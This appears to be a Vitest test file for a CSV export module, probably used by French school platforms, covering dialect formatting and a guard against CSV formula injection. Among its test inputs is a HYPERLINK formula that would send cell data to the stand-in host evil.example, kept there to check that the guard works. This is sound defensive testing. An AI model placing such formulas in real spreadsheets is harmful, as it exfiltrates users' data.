import { describe, expect, it } from 'vitest';
import {
  CSV_DIALECTS,
  csvText,
  neutraliseFormula,
  platformDialectOf,
  removeFormulaGuard,
  type CsvDialectName,
} from './dialects.js';

const ROWS = [
  ['Nom', 'Prénom', 'Identifiant'],
  ['Dupré', 'Zoé', 'zdupre'],
];

describe('the CSV dialects (spec 3 §9)', () => {
  it.each<[CsvDialectName, string]>([
    ['CNS', 'Nom;Prénom;Identifiant\r\nDupré;Zoé;zdupre\r\n'],
    ['KNE', '\uFEFF"Nom";"Prénom";"Identifiant"\r\n"Dupré";"Zoé";"zdupre"\r\n'],
    ['LLS2020', '\uFEFF"Nom";"Prénom";"Identifiant"\r\n"Dupré";"Zoé";"zdupre"\r\n'],
    ['PV', '\uFEFF"Nom";"Prénom";"Identifiant"\r\n"Dupré";"Zoé";"zdupre"\r\n'],
    ['PNE', '\uFEFF"Nom":"Prénom":"Identifiant"\r\n"Dupré":"Zoé":"zdupre"\r\n'],
    ['HMH', '\uFEFFNom;Prénom;Identifiant\r\nDupré;Zoé;zdupre\r\n'],
    ['FULL', '\uFEFFNom;Prénom;Identifiant\r\nDupré;Zoé;zdupre\r\n'],
    ['BRUT', '\uFEFFNom;Prénom;Identifiant\r\nDupré;Zoé;zdupre\r\n'],
    ['URL', '\uFEFFNom;Prénom;Identifiant\r\nDupré;Zoé;zdupre\r\n'],
    ['KWYK', '\uFEFFNom;Prénom;Identifiant\r\nDupré;Zoé;zdupre\r\n'],
    ['EDULIB', '\uFEFFNom;Prénom;Identifiant\r\nDupré;Zoé;zdupre\r\n'],
    ['KERB', '\uFEFFNom,Prénom,Identifiant\r\nDupré,Zoé,zdupre\r\n'],
    ['CAMBRIDGE', '\uFEFFNom,Prénom,Identifiant\r\nDupré,Zoé,zdupre\r\n'],
    ['DYLE', '\uFEFFNom,Prénom,Identifiant\r\nDupré,Zoé,zdupre\r\n'],
    ['TRHMH', '\uFEFFNom,Prénom,Identifiant\r\nDupré,Zoé,zdupre\r\n'],
  ])('writes %s with its separator, quotes, byte-order mark and CRLF', (name, expected) => {
    expect(csvText(ROWS, CSV_DIALECTS[name])).toBe(expected);
  });

  it('quotes a field that holds the separator, a quote or a line break in a dialect that quotes none', () => {
    expect(csvText([['a;b', 'say "hi"', 'two\nlines', 'a,b']], CSV_DIALECTS.HMH)).toBe(
      '\uFEFF"a;b";"say ""hi""";"two\nlines";a,b\r\n',
    );
    expect(csvText([['a,b', 'a;b']], CSV_DIALECTS.KERB)).toBe('\uFEFF"a,b",a;b\r\n');
  });

  it('knows a platform by its id only, never as one of the spreadsheet dialects', () => {
    expect(platformDialectOf('KNE')).toBe(CSV_DIALECTS.KNE);
    expect(platformDialectOf('NOPE')).toBeUndefined();
    expect(platformDialectOf('toString')).toBeUndefined();
    expect(platformDialectOf('FULL')).toBeUndefined();
    expect(platformDialectOf('REPORT')).toBeUndefined();
  });

  const FORMULAS = ['=1+1', '+33 6', '-2', '@SUM(A1)', '=HYPERLINK("http://evil.example/?"&C2,"x")', '\tcmd'];

  it.each<CsvDialectName>(['FULL', 'BRUT', 'URL', 'REPORT'])(
    'guards every cell of %s, a file people open, against formulas',
    (name) => {
      const text = csvText([FORMULAS], CSV_DIALECTS[name]);
      const cells = text
        .replace(/^\uFEFF/, '')
        .replace(/\r\n$/, '')
        .split(';');
      expect(cells[0]).toBe("'=1+1");
      expect(cells.every((cell) => cell.startsWith("'") || cell.startsWith('"\''))).toBe(true);
    },
  );

  it.each<CsvDialectName>(['CNS', 'KNE', 'HMH', 'PNE', 'KERB'])(
    'keeps the values of %s, a file a publisher reads, exact',
    (name) => {
      expect(csvText([['=1+1', '-2']], CSV_DIALECTS[name])).not.toContain("'");
    },
  );
});

describe('formula neutralisation (OWASP CSV injection)', () => {
  it.each([
    ['=HYPERLINK("http://x")', `'=HYPERLINK("http://x")`],
    ['+33 6', `'+33 6`],
    ['-2', `'-2`],
    ['@SUM(A1)', `'@SUM(A1)`],
    ['\tcmd', `'\tcmd`],
    ['\rcmd', `'\rcmd`],
  ])('neutralises %j', (value, expected) => {
    expect(neutraliseFormula(value)).toBe(expected);
  });

  it.each(['Zoé', 'Jean-Luc', '6e A', '', "l'école"])('keeps %j as it is', (value) => {
    expect(neutraliseFormula(value)).toBe(value);
  });

  it.each(['=1+2', '+33 6', '-2', '@SUM(A1)', '\tcmd', 'Zoé', "'quoted", "''=1"])(
    'is undone by the import for %j: a round trip adds no quote',
    (value) => {
      expect(removeFormulaGuard(neutraliseFormula(value))).toBe(value);
      expect(removeFormulaGuard(removeFormulaGuard(neutraliseFormula(neutraliseFormula(value))))).toBe(value);
    },
  );

  it('keeps an apostrophe that guards nothing', () => {
    expect(removeFormulaGuard("l'école")).toBe("l'école");
    expect(removeFormulaGuard("'Zoé")).toBe("'Zoé");
  });
});
